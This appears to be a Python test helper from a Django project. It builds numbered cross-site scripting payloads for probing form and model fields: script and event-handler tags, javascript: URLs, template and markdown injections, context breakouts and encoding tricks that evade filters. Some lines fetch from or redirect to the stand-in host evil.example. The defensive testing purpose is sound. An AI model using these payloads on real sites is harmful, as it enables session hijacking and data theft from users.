"""Scripts as somebody might type them: made here, of a way to run, a way out of where a text stands
and a way to write it. Each calls r() with its own number, or asks another site for it."""

import html
from itertools import product, zip_longest
from urllib.parse import quote

from django.core.exceptions import ValidationError

AWAY = "//evil.example/N"
CALLS = ("r(N)", "r`N`", "self.r(N)", "window['r'](N)", "[N].map(r)", "eval('r(N)')", "alert(N)",
         f"fetch('{AWAY}')", f"location='{AWAY}'")  # fmt: skip
VECTORS = (
    "<svg onload=JS>", "<script>JS</script>", "<img src=x onerror=JS>", "<svg/onload=JS>",
    "<svg><script>JS</script></svg>", "<details open ontoggle=JS>x</details>",
    "<input autofocus onfocus=JS>", "<video><source onerror=JS></video>",
    "<audio src=x onerror=JS>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<style onload=JS></style>",
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>', "<iframe src=javascript:JS></iframe>",
    "<object data=javascript:JS></object>", "<embed src=javascript:JS>",
    "<a href=javascript:JS>x</a>",
    "<form><button formaction=javascript:JS>x</button></form>", "<p onclick=JS>x</p>",
    "<math><mtext><mglyph><svg onload=JS>", "<math><a xlink:href=javascript:JS>x</a></math>",
    "<svg><a xlink:href=javascript:JS><text>x</text></a></svg>", "<body onload=JS>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>", "<select autofocus onfocus=JS>",
    "<SvG OnLoAd=JS>", "<svg\nonload\n=\nJS\n>", "<svg\tonload=JS//", "<<script>JS</script>",
)  # fmt: skip
REMOTE = (
    f"<img src={AWAY}>", f"<script src={AWAY}></script>", f"<link rel=stylesheet href={AWAY}>",
    f"<base href={AWAY}/>", f"<p style='background:url({AWAY})'>x", f"<iframe src={AWAY}></iframe>",
    f"<style>*{{background:url({AWAY})}}</style>", f"<style>@import '{AWAY}'</style>",
    f"<form action={AWAY}><input name=x></form>", f"<video poster={AWAY}></video>",
)  # fmt: skip
OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "-->", "</style>", "</script>", "]]>", "x ")
ATTRIBUTES = (
    '" onfocus=JS autofocus x="', "' onfocus=JS autofocus x='", "x onfocus=JS autofocus ",
    '"onmouseover=JS x="', "'onmouseover='JS", '" style="background:url(' + AWAY + ')',
    '"onclick=JS ', "'onclick=JS ", '"/onload=JS ', "` onfocus=JS autofocus x=`",
)  # fmt: skip
IN_SCRIPT = ('";JS//', "';JS//", "'-JS-'", '"-JS-"', "\\';JS//", "${JS}", "*/JS/*", "\n;JS\n")
ADDRESSES = (
    "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", " javascript:JS", "javascript&colon;JS",
    "javascript://%0aJS", "data:text/html,<script>JS</script>", "vbscript:JS", AWAY,
    "\x01javascript:JS",
)  # fmt: skip
TEMPLATES = (
    "{% autoescape off %}HTML{% endautoescape %}", "{% firstof 'HTML' %}", "{% verbatim %}HTML",
    "{{ 'HTML'|safe }}", "{{ '<b>'|safe }}HTML", "{# #}HTML", "{{HTML}}", "%(HTML)s", "{0}HTML",
    "{{constructor.constructor('JS')()}}", "<%= HTML %>", "#{HTML}", "{% include 'HTML' %}",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:JS)", "[x](JAVASCRIPT:JS)", "[x](<javascript:JS>)", "<javascript:JS>",
    "[x](javascript&colon;JS)", f"![x]({AWAY})", '![x](x"onerror="JS)', f"[x]({AWAY})",
    "[x](data:text/html,HTML)", "`HTML`", "# HTML", "> HTML", "- HTML", "**HTML**", "[HTML](/x)",
    '[x](/x "HTML")', "[x][y]\n\n[y]: javascript:JS", "    HTML", "```HTML\nHTML\n```",
)  # fmt: skip
STYLES = (f"background:url({AWAY})", f"x:expression(JS);background:url({AWAY})",
          f"}}*{{background:url({AWAY})}}", f"</style>HTML{AWAY}")  # fmt: skip
WRITINGS = (
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(one if one == "N" else f"&#{ord(one)};" for one in text),
    lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e").replace("=", "\uff1d"),
    lambda text: text.replace("s", "\u017f"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\ufeff{text}",
    lambda text: text.replace(" ", "\x0c"),
    lambda text: f"e\u0301\U0001f600{text}",
)


def shapes():
    """All of them, by kind, N still for the number."""
    runs = [vector.replace("JS", call) for call, vector in product(CALLS, VECTORS)]
    markup = [*REMOTE, *runs]
    yield [out + one for one, out in product(markup, OUT_OF)]
    for kind in (ATTRIBUTES, IN_SCRIPT, ADDRESSES, TEMPLATES, MARKDOWN, STYLES):
        pairs = product(markup[:: len(CALLS) * 2 + 1], CALLS, kind)
        yield [one.replace("HTML", run).replace("JS", call) for run, call, one in pairs]
    yield [write(one) for one, write in product(markup, WRITINGS)]


def payloads(many):
    """So many, each of another shape: from every kind in turn, and from all over it."""
    kinds = [list(dict.fromkeys(kind)) for kind in shapes()]
    spread = [[kind[n * 37 % len(kind)] for n in range(many)] for kind in kinds]
    mixed = dict.fromkeys(one for turn in zip_longest(*spread) for one in turn)
    return list(mixed)[:many]


def numbered(shape, number):
    return shape.replace("N", str(number))


def fitting(shapes, start, field):
    """The first from this one on that a field takes: of a form, or of a model."""
    for n in range(start, start + len(shapes)):
        shape = shapes[n % len(shapes)]
        for text in ways_in(shape, start):
            if takes(field, text):
                return text
    raise AssertionError(f"{field} takes no payload")


def ways_in(shape, n):
    """As it is; with the digits of a phone; as the quoted part of an address."""
    text = numbered(shape, n)
    return text, numbered(shape, 5550000 + n), f'"{text}"@a.example'


def takes(field, text):
    try:
        kept = field.clean(text) if hasattr(field, "widget") else field.clean(text, None)
    except ValidationError:
        return False
    return any(letter.isalpha() for letter in kept)
